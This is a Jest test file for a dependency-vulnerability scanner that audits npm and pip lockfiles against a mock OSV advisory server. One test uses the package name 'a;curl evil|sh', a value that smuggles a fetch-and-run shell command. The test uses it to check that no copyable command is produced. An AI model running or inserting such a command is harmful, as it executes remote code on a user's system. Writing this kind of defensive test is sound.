import { afterEach, beforeEach, expect, test } from '@jest/globals';
import { httpClient } from '../../../../src/io/http.js';
import type { Observation } from '../../../../src/model/observation.js';
import type { ScanOutcome } from '../../../../src/model/scan-outcome.js';
import type { Workspace } from '../../../../src/model/workspace.js';
import { dependencies } from '../../../../src/scan/dependencies/index.js';
import type { ScanContext } from '../../../../src/scan/scanner.js';
import { someOptions } from '../../../helpers/builders.js';
import { npmProject } from '../../../helpers/npm-project.js';
import { type OsvRecord, type OsvServer, osvRecord, startOsvServer } from '../../../helpers/osv-server.js';
import { contextFor, type Files, memoryWorkspace } from '../../../helpers/scan-context.js';

const HIGH = { severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H' }] };
const RECORDS: OsvRecord[] = [
  osvRecord('GHSA-qs', 'npm', 'qs', '6.5.3', {
    ...HIGH,
    aliases: ['CVE-2022-1'],
    references: [
      { type: 'WEB', url: 'http://plain.example/' },
      { type: 'WEB', url: 'https://good.example/qs' },
    ],
    database_specific: { cwe_ids: ['CWE-1321'] },
  }),
  osvRecord('GHSA-qs-later', 'npm', 'qs', '6.6.0', { affected: affectedFrom('qs', '6.5.3', '6.6.0') }),
  osvRecord('GHSA-express', 'npm', 'express', '4.19.2', HIGH),
  osvRecord('GHSA-nofix', 'npm', 'nofix', null),
  osvRecord('MAL-2026-1', 'npm', 'evil', null),
];

function affectedFrom(name: string, introduced: string, fixed: string) {
  return [{ package: { ecosystem: 'npm', name }, ranges: [{ type: 'SEMVER', events: [{ introduced }, { fixed }] }] }];
}

let osv: OsvServer;

const envOf = (url: string) => ({ GATEHOUSE_OSV_API: url, GATEHOUSE_NPM: url });

beforeEach(async () => {
  osv = await startOsvServer({ records: RECORDS });
});

afterEach(async () => {
  await osv.close();
});

function scan(head: Files, base?: Files, more: Partial<ScanContext> = {}): Promise<ScanOutcome> {
  const env = envOf(osv.url);
  const workspace = memoryWorkspace(head, base);
  return dependencies.scan(contextFor(dependencies, { workspace, http: httpClient('test'), env, ...more }));
}

function only(observations: readonly Observation[]): Observation {
  expect(observations).toHaveLength(1);
  const [first] = observations;
  if (first === undefined) throw new Error('no observation');
  return first;
}

const express = { version: '4.17.1', dependencies: { qs: '6.5.2' } };

test('a tree without any lockfile is not applicable, not clean', async () => {
  expect(await scan({ 'README.md': 'hello' })).toMatchObject({ status: 'not-applicable', head: [] });
  expect(osv.requests).toHaveLength(0);
});

test('a manifest that no lockfile pins is in the ledger: its dependencies were not audited', async () => {
  const none = await scan({ 'package.json': '{"dependencies":{"evil":"*"}}' });
  expect(none).toMatchObject({ status: 'not-applicable', coverage: [{ kind: 'manifest', path: 'package.json' }] });
});

test('findings of a lockfile that the change deletes are not fixed while the manifest still asks', async () => {
  const files = npmProject({ qs: '^6.0.0' }, { qs: { version: '6.5.2' } });
  const { 'package-lock.json': _lockfile, ...manifest } = files;
  expect(await scan(manifest, files)).toMatchObject({ base: [], coverage: [{ byChange: true }] });
  expect((await scan({ 'README.md': 'x' }, files)).base).not.toEqual([]);
});

test('a transitive finding tells the way it comes in, where it stands, and an override when the range forbids the fix', async () => {
  const files = npmProject(
    { express: '^4.17.1' },
    { express: { ...express, version: '4.19.2' }, qs: { version: '6.5.2' } },
  );
  const outcome = await scan(files);
  expect(outcome).toMatchObject({ status: 'complete', engine: 'builtin', stats: { files: 1 } });
  const finding = only(outcome.head);
  expect(finding).toMatchObject({
    category: 'dependency',
    rule: 'GHSA-qs',
    aliases: ['CVE-2022-1'],
    severity: 'high',
    confidence: 'high',
    risk: { cvss: 7.5, kev: null, epss: null },
    cwe: ['CWE-1321'],
    references: ['https://good.example/qs'],
    package: {
      ecosystem: 'npm',
      name: 'qs',
      version: '6.5.2',
      purl: 'pkg:npm/qs@6.5.2',
      direct: false,
      scope: 'runtime',
      paths: [['express']],
    },
    identity: ['dependency', 'npm', 'qs', '6.5.2', 'GHSA-qs', 'package-lock.json'],
    lineage: ['npm', 'qs', 'GHSA-qs'],
  });
  expect(finding.message).toBe('qs@6.5.2 is affected by GHSA-qs. Introduced through express > qs.');
  expect(finding.location?.path).toBe('package-lock.json');
  expect(finding.location?.startLine).toBeGreaterThan(1);
  expect(finding.fix?.description).toContain('Override');
  expect(finding.fix?.description).toContain('"qs@6": "6.6.0"');
});

test('the fixed version is one that no other advisory affects: 6.5.3 is fixed for one and affected by the next', async () => {
  const outcome = await scan(npmProject({ qs: '^6.0.0' }, { qs: { version: '6.5.2' } }));
  expect(only(outcome.head).fix).toMatchObject({ version: '6.6.0', command: 'npm install qs@6.6.0' });
});

test('a transitive package whose requested range admits the fix is refreshed, not overridden', async () => {
  const packages = { express: { version: '4.19.2', dependencies: { qs: '^6.5.0' } }, qs: { version: '6.5.2' } };
  const outcome = await scan(npmProject({ express: '^4.0.0' }, packages));
  expect(only(outcome.head).fix).toMatchObject({ version: '6.6.0', command: 'npm update qs' });
});

test('without a fixed release the reader is told so, and what to do', async () => {
  const outcome = await scan(npmProject({ nofix: '^1.0.0' }, { nofix: { version: '1.0.0' } }));
  const { fix, severity } = only(outcome.head);
  expect(fix?.description).toContain('No fixed release');
  expect(fix?.version).toBeUndefined();
  expect(severity).toBe('unknown');
});

test('malware is critical, its own category, and never told to upgrade', async () => {
  const outcome = await scan(npmProject({ evil: '^1.0.0' }, { evil: { version: '1.0.0', dev: true } }));
  const finding = only(outcome.head);
  expect(finding).toMatchObject({ category: 'malware', severity: 'critical', rule: 'MAL-2026-1' });
  expect(finding.fix?.command).toBeUndefined();
  expect(`${finding.title} ${finding.fix?.description}`).toMatch(/[Rr]emove/);
  expect(`${finding.title} ${finding.fix?.description}`).toMatch(/rotate/);
  expect(`${finding.title} ${finding.message} ${finding.fix?.description}`).not.toMatch(/[Uu]pgrade/);
});

test('a workspace or git package named like a malicious one is not matched', async () => {
  const files = npmProject({}, { evil: { version: '1.0.0', resolved: 'git+ssh://git@github.com/us/evil.git#abc' } });
  expect(await scan(files)).toMatchObject({ status: 'complete', head: [] });
  expect(JSON.stringify(osv.requests)).not.toContain('evil');
});

test('a bump that does not help is said to be still vulnerable', async () => {
  const base = npmProject({ qs: '^6.0.0' }, { qs: { version: '6.5.1' } });
  const outcome = await scan(npmProject({ qs: '^6.0.0' }, { qs: { version: '6.5.2' } }), base);
  expect(only(outcome.head).message).toContain('Still vulnerable after this bump from 6.5.1.');
  expect(only(outcome.head).lineage).toEqual(only(outcome.base).lineage);
  expect(only(outcome.head).identity).not.toEqual(only(outcome.base).identity);
});

test('a finding that was there before is not called a bump', async () => {
  const files = npmProject({ qs: '^6.0.0' }, { qs: { version: '6.5.2' } });
  const nested = { ...npmProject({ qs: '^6.0.0' }, { qs: { version: '6.5.1' } }, 'other/'), ...files };
  const outcome = await scan({ ...files, 'README.md': 'x' }, nested);
  expect(only(outcome.head).message).not.toContain('bump');
});

test('both sides are asked in one question, and an unchanged lockfile is read once', async () => {
  const files = { ...npmProject({ express: '^4.0.0' }, { express, qs: { version: '6.5.2' } }), 'README.md': 'new' };
  const workspace = memoryWorkspace(files, { ...files, 'README.md': 'old' });
  const outcome = await dependencies.scan(
    contextFor(dependencies, { workspace, http: httpClient('test'), env: envOf(osv.url) }),
  );
  expect(osv.requests.filter((request) => request.path === '/v1/querybatch')).toHaveLength(1);
  expect(workspace.reads.filter((read) => read.endsWith('package-lock.json'))).toEqual(['head:package-lock.json']);
  expect(outcome.base.map((finding) => finding.identity)).toEqual(outcome.head.map((finding) => finding.identity));
  expect(outcome.base.length).toBeGreaterThan(0);
});

test('an unchanged lockfile beside a changed manifest is read on both sides: what is direct may have changed', async () => {
  const lock = npmProject({ qs: '^6.0.0' }, { qs: { version: '6.5.2' } });
  const workspace = memoryWorkspace(lock, { ...lock, 'package.json': '{"name":"app","dependencies":{}}' });
  await dependencies.scan(contextFor(dependencies, { workspace, http: httpClient('test'), env: envOf(osv.url) }));
  expect(workspace.reads).toContain('base:package-lock.json');
});

test('an included file above the checked folder may have changed unseen, so both sides are read', async () => {
  const requirements = { 'web/requirements.txt': '-r ../common.txt\nb==1.0\n' };
  const whole = memoryWorkspace(
    { ...requirements, 'common.txt': 'a==2.0\n' },
    { ...requirements, 'common.txt': 'a==1.0\n' },
  );
  const workspace: Workspace = {
    ...whole,
    prefix: 'web/',
    covers: (path) => path.startsWith('web/'),
    changes: [],
    files: async (side) => (await whole.files(side)).filter((entry) => entry.path.startsWith('web/')),
  };
  await dependencies.scan(contextFor(dependencies, { workspace, http: httpClient('test'), env: envOf(osv.url) }));
  expect(whole.reads).toEqual(
    expect.arrayContaining(['head:common.txt', 'base:web/requirements.txt', 'base:common.txt']),
  );
});

test('when the change touches the manifest, the finding stands at the direct dependency in it', async () => {
  const head = npmProject(
    { express: '^4.17.1' },
    { express: { ...express, version: '4.19.2' }, qs: { version: '6.5.2' } },
  );
  const outcome = await scan(head, {});
  expect(only(outcome.head).location).toEqual({ path: 'package.json', startLine: 4 });
  expect(only(outcome.head).otherLocations?.[0]?.path).toBe('package-lock.json');
});

test('a broken lockfile is a problem and the scan is partial; the others stand', async () => {
  const outcome = await scan({
    ...npmProject({ qs: '^6.0.0' }, { qs: { version: '6.5.2' } }, 'good/'),
    'bad/package-lock.json': '{"lockfileVersion": 3, "packages": {',
  });
  expect(outcome.status).toBe('partial');
  expect(outcome.problems).toHaveLength(1);
  expect(outcome.problems[0]).toMatchObject({ path: 'bad/package-lock.json' });
  expect(outcome.problems[0]?.remedy).toBeDefined();
  expect(outcome.head).toHaveLength(1);
});

test.each([
  ['binary', Buffer.from([0, 1, 2, 0, 255])],
  ['UTF-16', Buffer.from('\ufeff{}', 'utf16le')],
  ['empty', Buffer.alloc(0)],
  ['too large', Buffer.alloc(49 * 1024 * 1024, 0x20)],
])('a lockfile that is %s is named, never clean', async (_, bytes) => {
  const outcome = await scan({ 'package-lock.json': bytes });
  expect(outcome.status).toBe('partial');
  expect(outcome.problems[0]?.path).toBe('package-lock.json');
});

test('a broken lockfile on the base does not block the change that repairs it', async () => {
  const outcome = await scan(npmProject({ qs: '^6.0.0' }, { qs: { version: '6.5.2' } }), { 'package-lock.json': '{' });
  expect(outcome.status).toBe('complete');
  expect(outcome.head).toHaveLength(1);
  expect(outcome.notes?.join()).toContain('base side, package-lock.json');
});

test('a lockfile inside node_modules is not audited: nobody installs it', async () => {
  const outcome = await scan(npmProject({ qs: '^6.0.0' }, { qs: { version: '6.5.2' } }, 'node_modules/x/'));
  expect(outcome.status).toBe('not-applicable');
});

test('offline without a database is failed with the remedy, and nothing is sent', async () => {
  const options = someOptions({ offline: true });
  const outcome = await scan(npmProject({ qs: '^6.0.0' }, { qs: { version: '6.5.2' } }), undefined, { options });
  expect(outcome).toMatchObject({
    status: 'failed',
    reason: 'offline without --osv-db: nothing to audit against',
    head: [],
  });
  expect(osv.requests).toHaveLength(0);
});

test('a lost service is failed, and the packages still reach the inventory', async () => {
  osv.misbehave = () => ({ status: 403 });
  const outcome = await scan(npmProject({ qs: '^6.0.0' }, { qs: { version: '6.5.2' } }));
  expect(outcome).toMatchObject({ status: 'failed', reason: 'OSV API: no package audited: answered 403' });
  expect(outcome.inventory).toMatchObject([{ name: 'qs', version: '6.5.2', path: 'package-lock.json' }]);
});

test('when the advisories about a package cannot be had, the fix says that it was not checked', async () => {
  osv.misbehave = ({ path }) => (path === '/v1/query' ? { status: 403 } : undefined);
  const outcome = await scan(npmProject({ qs: '^6.0.0' }, { qs: { version: '6.5.2' } }));
  expect(outcome.status).toBe('complete');
  expect(only(outcome.head).fix).toMatchObject({ version: '6.5.3' });
  expect(only(outcome.head).fix?.description).toContain('not checked against every advisory');
});

test('a package name that a shell would read gets no command to copy', async () => {
  const name = 'a;curl evil|sh';
  osv.misbehave = ({ path }) =>
    path === '/v1/querybatch'
      ? { status: 200, body: '{"results":[{"vulns":[{"id":"GHSA-odd","modified":"2026-01-02T03:04:05Z"}]}]}' }
      : { status: 200, body: JSON.stringify(path === '/v1/query' ? { vulns: [odd] } : odd) };
  const odd = osvRecord('GHSA-odd', 'npm', name, '2.0.0');
  const outcome = await scan(npmProject({ [name]: '^1.0.0' }, { [name]: { version: '1.0.0' } }));
  const { fix } = only(outcome.head);
  expect(fix?.version).toBe('2.0.0');
  expect(fix?.command).toBeUndefined();
  expect(fix?.description).not.toContain('curl');
});

test('two lockfiles with the same package are two findings with their own places', async () => {
  const direct = { qs: '^6.0.0' };
  const packages = { qs: { version: '6.5.2' } };
  const outcome = await scan({ ...npmProject(direct, packages, 'a/'), ...npmProject(direct, packages, 'b/') });
  expect(outcome.head.map((finding) => finding.location?.path)).toEqual(['a/package-lock.json', 'b/package-lock.json']);
  expect(new Set(outcome.head.map((finding) => finding.identity.join())).size).toBe(2);
});
